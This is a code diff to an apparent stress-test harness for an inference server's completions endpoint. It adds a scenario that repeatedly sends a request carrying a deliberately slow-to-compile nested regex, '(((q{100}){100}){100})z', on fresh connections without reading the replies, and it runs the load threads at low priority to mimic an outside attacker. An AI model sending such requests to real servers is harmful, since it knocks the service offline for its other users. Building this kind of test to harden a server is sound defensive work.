@@ -10,7 +10,10 @@ import contextlib
 import gzip
 import itertools
 import json
+import os
 import socket
+import sys
+import threading
 import time
 from collections.abc import Callable
 from concurrent.futures import ThreadPoolExecutor
@@ -293,6 +296,20 @@ def come_and_go(address: Address, key: str | None = None, count: int = 100) -> i
     return count
 
 
+def come_back(address: Address, key: str | None = None, count: int = 100) -> int:
+    """The same with one expression, which is compiled once. Each request has a slow mask in its first step."""
+    body = completion(guided_regex="(((q{100}){100}){100})z", max_tokens=500)[1]
+    message = head(COMPLETIONS, key, f"Content-Length: {len(body)}", "Connection: close") + body
+    with connect(address) as connection:
+        connection.sendall(message)
+        reply_of(connection)
+    for _ in range(count):
+        with connect(address) as connection:
+            connection.sendall(message)
+        time.sleep(0.01)
+    return count
+
+
 WIRE: dict[str, Callable[[Address, str | None], int]] = {
     each.__name__: each
     for each in (
@@ -305,6 +322,7 @@ WIRE: dict[str, Callable[[Address, str | None], int]] = {
         trailers,
         many_streams,
         come_and_go,
+        come_back,
     )
 }
 
@@ -350,7 +368,10 @@ def _is_open(connection: socket.socket) -> bool:
 
 
 def together(work: Callable[[], Any], count: int) -> list[Any]:
-    """`work` in `count` threads at once; what each returns or raises."""
+    """`work` in `count` threads at once; what each returns or raises.
+
+    The threads have a low priority: an attacker has another machine, and does not take the server's processors.
+    """
 
     def one(_: int) -> Any:
         try:
@@ -358,5 +379,10 @@ def together(work: Callable[[], Any], count: int) -> list[Any]:
         except Exception as error:
             return error
 
-    with ThreadPoolExecutor(count) as threads:
+    with ThreadPoolExecutor(count, initializer=_lower_priority) as threads:
         return list(threads.map(one, range(count)))
+
+
+def _lower_priority() -> None:
+    if sys.platform == "linux":  # where a thread has a priority
+        os.setpriority(os.PRIO_PROCESS, threading.get_native_id(), 15)
